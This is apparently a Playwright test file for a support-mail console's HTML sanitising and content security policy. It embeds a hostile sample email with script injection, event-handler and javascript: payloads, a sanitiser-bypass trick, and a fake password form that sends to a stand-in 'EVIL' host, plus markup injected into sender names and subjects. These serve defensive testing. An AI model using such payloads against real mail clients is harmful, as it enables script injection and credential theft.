"""Nothing of a mail runs, nothing of it is loaded, and the page itself may do no more than it needs."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from secrets import token_hex

import pytest
from playwright.sync_api import expect

from infra.local.outside import mail, wait_for

HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=EVIL/refresh">
<base href="EVIL/"><link rel="stylesheet" href="EVIL/style.css">
<script>window.top.hacked = 1; parent.hacked = 1; fetch("EVIL/script")</script></head>
<body onload="parent.hacked = 2" background="EVIL/background.png">
<h1 style="background:url(EVIL/css.png)">Rachunek</h1>
<img src="EVIL/pixel.gif" onerror="parent.hacked = 3"><img src="x:y" onerror="parent.hacked = 4">
<svg onload="parent.hacked = 5"><image href="EVIL/svg.png"></image></svg>
<iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object>
<video poster="EVIL/poster.png" src="EVIL/video"></video>
<form action="EVIL/form"><input name="password"><button id="go">Log in</button></form>
<a id="out" href="EVIL/link" target="_top">Tu kliknij</a>
<a href="javascript:parent.hacked = 6">i tu</a><math><mtext><script>parent.hacked = 7</script></mtext></math>
</body></html>"""


@pytest.fixture
def evil():
    """A server that only writes down what it is asked for: whatever leaves the page arrives there."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815  # the library's name

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.asked, server.address = asked, f"http://127.0.0.1:{server.server_address[1]}"
    yield server
    server.shutdown()
    server.server_close()


def hostile_mail(subject, page):
    message = mail(f"{token_hex(4)}@example.pl", "pomoc@hub.example", subject, "Rachunek w załączniku.")
    message.add_alternative(page, subtype="html")
    return message


def shown_frame(agent):
    agent.entry("Rachunek").first.locator("summary", has_text="As it was laid out").click()
    frame = agent.page.frame_locator("iframe.mail")
    expect(frame.locator("h1")).to_have_text("Rachunek")
    agent.page.wait_for_timeout(1_500)  # what would be loaded is asked for by then
    return frame


def assert_harmless(agent):
    assert agent.page.evaluate("window.hacked") is None
    assert agent.page.url.startswith(agent.address)
    assert len(agent.page.context.pages) == 1


@pytest.fixture
def hostile(console, outside, evil):
    subject = f"Rachunek {token_hex(4)}"
    outside.send_mail(hostile_mail(subject, HOSTILE.replace("EVIL", evil.address)))
    return console().log_in().open(subject)


def test_a_hostile_mail_runs_no_script_and_loads_nothing(hostile, evil):
    frame = shown_frame(hostile)
    expect(frame.locator("script, iframe, form, object, link[href*=evil], svg")).to_have_count(0)
    expect(hostile.page.locator(".entry")).to_contain_text(["not loaded"])
    assert_harmless(hostile)
    assert evil.asked == []


def test_the_frame_holds_also_what_no_sanitiser_has_seen(hostile, evil, outside, stack):
    """As if the hub's sanitiser had a hole: the stored HTML version is replaced by the hostile original."""
    (case,) = [c for c in outside.open_cases("care") if c["reference"] == hostile.reference]
    (entry,) = [e for e in outside.thread(case["customer_id"]) if e["html"]]
    digest = entry["html"]["link"].rpartition("/")[2]
    bucket = stack.get_deployed().environment["ATTACHMENT_BUCKET"]
    key = f"att/{case['customer_id']}/{digest}"
    stack.client("s3").put_object(
        Bucket=bucket, Key=key, Body=HOSTILE.replace("EVIL", evil.address).encode(), ContentType="text/html"
    )
    frame = shown_frame(hostile)
    assert_harmless(hostile)
    frame.locator("#go").click()
    frame.locator("#out").click()
    hostile.page.wait_for_timeout(1_000)
    assert_harmless(hostile)
    assert evil.asked == []


def test_the_server_that_waits_for_what_leaks_would_hear_it(console, evil):
    """Without it, the tests above would pass whatever happened."""
    agent = console()
    agent.page.set_content(f'<img src="{evil.address}/pixel.gif">')
    wait_for(lambda: evil.asked, "the picture is asked for")


def test_markup_in_names_subjects_and_texts_is_shown_as_it_was_written(console, outside):
    mark = token_hex(4)
    nasty = f"<img src=x onerror=parent.hacked=1>{mark}"
    outside.send_mail(
        mail(f'"<b onclick=1>{mark}" <{mark}@example.pl>', "pomoc@hub.example", nasty, f"<script>{mark}</script>")
    )
    agent = console().log_in().open(mark)
    expect(agent.entry(f"<script>{mark}</script>")).to_be_visible()
    expect(agent.page.locator("#case-title")).to_have_text(nasty)
    assert_harmless(agent)


def test_a_file_of_a_customer_is_downloaded_and_never_opened(console, outside):
    subject = f"Plik {token_hex(4)}"
    message = mail(f"{token_hex(4)}@example.pl", "pomoc@hub.example", subject, "W załączniku.")
    message.add_attachment(b"<script>parent.hacked=1</script>", maintype="text", subtype="html", filename="plik.html")
    outside.send_mail(message)
    agent = console().log_in().open(subject)
    with agent.page.expect_download() as download:
        agent.page.locator("button.file").click()
    assert download.value.suggested_filename == "plik.html"
    assert_harmless(agent)


def test_the_page_says_strictly_what_it_may_do(console):
    agent = console()
    answer = agent.page.goto(agent.address)
    policy = dict(rule.strip().split(" ", 1) for rule in answer.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == "'self'"
    assert policy["frame-ancestors"] == policy["base-uri"] == policy["form-action"] == "'none'"
    assert "unsafe" not in answer.headers["content-security-policy"]
    agent.log_in()
    assert agent.page.evaluate("Object.keys(localStorage).every(key => !localStorage[key].includes('eyJ'))")
    assert agent.complaints == []


def held_by(agent):
    return json.loads(agent.page.evaluate("sessionStorage.getItem('splot.tokens')"))


def test_only_the_consoles_own_page_is_let_in_with_one_click_and_goes_on_when_its_token_ends(console):
    agent = console()
    agent.page.clock.install()
    agent.log_in()
    first = held_by(agent)
    agent.page.clock.fast_forward("59:30")
    wait_for(lambda: held_by(agent)["access"] != first["access"], "another token")
    expect(agent.page.locator("header.top")).to_be_visible()
    for headers in ({"Origin": "EVIL"}, {}):
        for data in ({"user": "agent"}, {"refresh_token": first["refresh"]}):
            answer = agent.page.request.post(f"{agent.address}login", data=data, headers=headers)
            assert answer.status == 403
    own = {"Origin": agent.address.rstrip("/")}
    assert agent.page.request.post(f"{agent.address}login", data={"refresh_token": "none"}, headers=own).status == 401
    wait_for(lambda: agent.page.request.get(f"{agent.address}config.json").ok, "the console")
    assert agent.page.request.get(agent.address, headers={"Host": "evil.example"}).status == 421
